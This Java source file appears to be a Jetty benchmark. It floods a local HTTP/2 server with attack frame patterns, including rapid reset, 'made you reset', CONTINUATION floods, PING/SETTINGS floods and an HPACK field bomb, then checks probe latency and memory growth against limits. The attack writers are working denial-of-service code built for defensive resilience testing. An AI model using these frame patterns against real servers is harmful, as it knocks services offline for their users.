package org.eclipse.jetty.benchmarks;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;

/**
 * What somebody else waits for, and how much memory a server takes, while clients of HTTP/2 make it work for nothing.
 *
 * <p>The server has one CPU, attackers and probe another one. An attacker that is sent away comes again. Fails if the median
 * of the probe is more than three times that without attackers, or the server has grown by more than 100 MB. Arguments:
 * {@code NAME=HOME}; before it perhaps {@code seconds=5}, {@code attackers=4}, {@code burst=100} (frames every 10 ms of each),
 * {@code attack=PINGS} (only that one), {@code rounds=1}.
 */
public final class Http2Attacks {
    private static final byte[] PROBE = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    /** GET, http, /, and the authority as a literal (RFC 7541). */
    private static final byte[] FIELDS = "\u0082\u0086\u0084\1\11localhost".getBytes(StandardCharsets.ISO_8859_1);

    /** The same for what takes 20 ms, so that it is reset before it is answered. */
    private static final byte[] SLOW_FIELDS =
            "\u0082\u0086\4\7/?ms=20\1\11localhost".getBytes(StandardCharsets.ISO_8859_1);

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final long MAX_GROWTH = 100_000_000;
    private static final double MAX_DELAY = 3;

    /** Ways to make work, by the frames that stream {@code 2 * i + 1} brings. */
    private enum Attack {
        RAPID_RESET,
        RESET_ANSWERED,
        MADE_YOU_RESET,
        MADE_YOU_RESET_ANSWERED,
        CONTINUATIONS,
        EMPTY_DATA,
        PINGS,
        SETTINGS_FRAMES,
        PRIORITIES,
        FIELD_BOMB,
        CLOSED_WINDOWS;

        /** Writes the frames of a step; the first one of a connection is 0. */
        void write(int step, Http2Frames to) {
            int stream = 2 * step + 1;
            switch (this) {
                case RAPID_RESET -> {
                    to.frame(HEADERS, 5, stream, SLOW_FIELDS);
                    to.frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                }
                case RESET_ANSWERED -> {
                    to.frame(HEADERS, 5, stream, FIELDS);
                    to.frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                }
                case MADE_YOU_RESET_ANSWERED -> {
                    to.frame(HEADERS, 5, stream, FIELDS);
                    to.frame(WINDOW_UPDATE, 0, stream, new byte[4]);
                }
                case MADE_YOU_RESET -> {
                    to.frame(HEADERS, 5, stream, SLOW_FIELDS);
                    to.frame(WINDOW_UPDATE, 0, stream, new byte[4]);
                }
                case CONTINUATIONS ->
                    to.frame(step == 0 ? HEADERS : CONTINUATION, 0, 1, step == 0 ? FIELDS : new byte[1]);
                case EMPTY_DATA -> {
                    if (step == 0) {
                        to.frame(HEADERS, 4, 1, FIELDS);
                    }
                    to.frame(DATA, 0, 1, new byte[0]);
                }
                case PINGS -> to.frame(PING, 0, 0, new byte[8]);
                case SETTINGS_FRAMES -> to.frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 1, 0});
                case PRIORITIES -> to.frame(PRIORITY, 0, stream, new byte[5]);
                case FIELD_BOMB -> {
                    ByteBuffer block = ByteBuffer.allocate(8000).put(FIELDS);
                    if (step == 0) {
                        // a field of 3,000 octets, which goes to the table
                        block.put((byte) 0x40).put((byte) 1).put((byte) 'x');
                        block.put((byte) 0x7f).put((byte) 0xb9).put((byte) 0x16);
                        block.put("y".repeat(3000).getBytes(StandardCharsets.US_ASCII));
                    } else {
                        while (block.hasRemaining()) {
                            block.put((byte) 0xbe);
                        }
                    }
                    to.frame(HEADERS, 5, stream, Arrays.copyOf(block.array(), block.position()));
                }
                case CLOSED_WINDOWS -> {
                    if (step == 0) {
                        to.frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0});
                    }
                    to.frame(HEADERS, 5, stream, FIELDS);
                }
            }
        }
    }

    private final int port;
    private final int burst;
    private final LongAdder connections = new LongAdder();
    private final LongAdder steps = new LongAdder();

    private Http2Attacks(int port, int burst) {
        this.port = port;
        this.burst = burst;
    }

    public static void main(String[] args) throws Exception {
        int seconds = 5;
        int attackers = 4;
        int burst = 100;
        int rounds = 1;
        Attack[] attacks = Attack.values();
        String home = null;
        for (String arg : args) {
            String value = arg.substring(arg.indexOf('=') + 1);
            switch (arg.substring(0, arg.indexOf('='))) {
                case "seconds" -> seconds = Integer.parseInt(value);
                case "attackers" -> attackers = Integer.parseInt(value);
                case "attack" -> attacks = new Attack[] {Attack.valueOf(value)};
                case "rounds" -> rounds = Integer.parseInt(value);
                case "burst" -> burst = Integer.parseInt(value);
                default -> home = arg;
            }
        }
        if (home == null) {
            throw new IllegalArgumentException("expected: NAME=HOME");
        }
        Measure.describe();
        boolean good = true;
        try (ServerProcess server = new ServerProcess(home, ",http2c")) {
            Http2Attacks run = new Http2Attacks(server.port, burst);
            ServerProcess.pin(server.pid(), 0);
            ServerProcess.pin(ProcessHandle.current().pid(), 1);
            for (int i = 0; i < 3; i++) {
                run.probe(3);
            }
            System.out.println("| attack | connections | steps | probe p50, us | ratio | p99, us | growth, MB |");
            System.out.println("|---|---:|---:|---:|---:|---:|---:|");
            for (int round = 0; round < rounds; round++) {
                for (Attack attack : attacks) {
                    good &= run.measure(server, attack, seconds, attackers);
                }
            }
        }
        if (!good) {
            System.err.println(
                    "an attack delays the probe more than " + MAX_DELAY + " times, or takes more than 100 MB");
            System.exit(1);
        }
    }

    /** Prints a row; returns whether the goals are reached. */
    private boolean measure(ServerProcess server, Attack attack, int seconds, int attackers) throws Exception {
        long[] alone = probe(seconds);
        long memory = server.residentMemory();
        long[] probed;
        try {
            probed = under(attack, seconds, attackers);
        } catch (IOException x) {
            throw new IOException(attack + ": " + x.getMessage() + "\nThe server said:\n" + server.log(), x);
        }
        long growth = server.residentMemory() - memory;
        double ratio = Measure.percentile(probed, 0.5) / (double) Measure.percentile(alone, 0.5);
        System.out.printf(
                "| %s | %,d | %,d | %.0f | %.2f | %.0f | %.0f |%n",
                attack.name().toLowerCase(Locale.ROOT).replace('_', ' '),
                connections.sumThenReset(),
                steps.sumThenReset(),
                Measure.percentile(probed, 0.5) / 1e3,
                ratio,
                Measure.percentile(probed, 0.99) / 1e3,
                growth / 1e6);
        return ratio <= MAX_DELAY && growth <= MAX_GROWTH;
    }

    private long[] under(Attack attack, int seconds, int attackers) throws Exception {
        AtomicBoolean stop = new AtomicBoolean();
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < attackers; i++) {
            Thread thread = new Thread(() -> attack(attack, stop), "attacker-" + i);
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }
        try {
            return probe(seconds);
        } finally {
            stop.set(true);
            for (Thread thread : threads) {
                thread.join(5000);
            }
        }
    }

    private void attack(Attack attack, AtomicBoolean stop) {
        byte[] dropped = new byte[65536];
        while (!stop.get()) {
            connections.increment();
            try (Socket socket = new Socket("127.0.0.1", port)) {
                socket.setSoTimeout(1000);
                socket.getOutputStream().write(Http2Frames.PREFACE);
                InputStream in = socket.getInputStream();
                for (int step = 0; !stop.get(); ) {
                    Http2Frames frames = new Http2Frames();
                    for (int i = 0; i < burst; i++) {
                        attack.write(step++, frames);
                    }
                    steps.add(burst);
                    socket.getOutputStream().write(frames.toByteArray());
                    while (in.available() > 0 && in.read(dropped) >= 0) {
                        // answers are read, so that the server may go on
                    }
                    LockSupport.parkNanos(10_000_000);
                }
            } catch (IOException x) {
                // sent away; again
                LockSupport.parkNanos(10_000_000);
            }
        }
    }

    /** The latencies in nanoseconds of one request after the other, sorted. */
    private long[] probe(int seconds) throws IOException {
        long[] nanos = new long[1 << 20];
        int count = 0;
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setTcpNoDelay(true);
            byte[] response = new byte[4096];
            while (System.nanoTime() < end && count < nanos.length) {
                long begin = System.nanoTime();
                socket.getOutputStream().write(PROBE);
                int length = 0;
                while (!isWhole(response, length)) {
                    int read = socket.getInputStream().read(response, length, response.length - length);
                    if (read <= 0) {
                        throw new IOException("probe " + count + ": " + text(response, length));
                    }
                    length += read;
                }
                nanos[count++] = System.nanoTime() - begin;
                LockSupport.parkNanos(500_000);
            }
        }
        long[] sorted = Arrays.copyOf(nanos, count);
        Arrays.sort(sorted);
        return sorted;
    }

    /** Whether a response has come, which is the one that is to come, and nothing behind it. */
    private static boolean isWhole(byte[] response, int length) throws IOException {
        if (length < 13 || !text(response, length).endsWith("Hello, World!")) {
            return false;
        }
        if (text(response, length).startsWith("HTTP/1.1 200 ")) {
            return true;
        }
        throw new IOException("probe: " + text(response, length));
    }

    private static String text(byte[] response, int length) {
        return new String(response, 0, length, StandardCharsets.ISO_8859_1);
    }
}
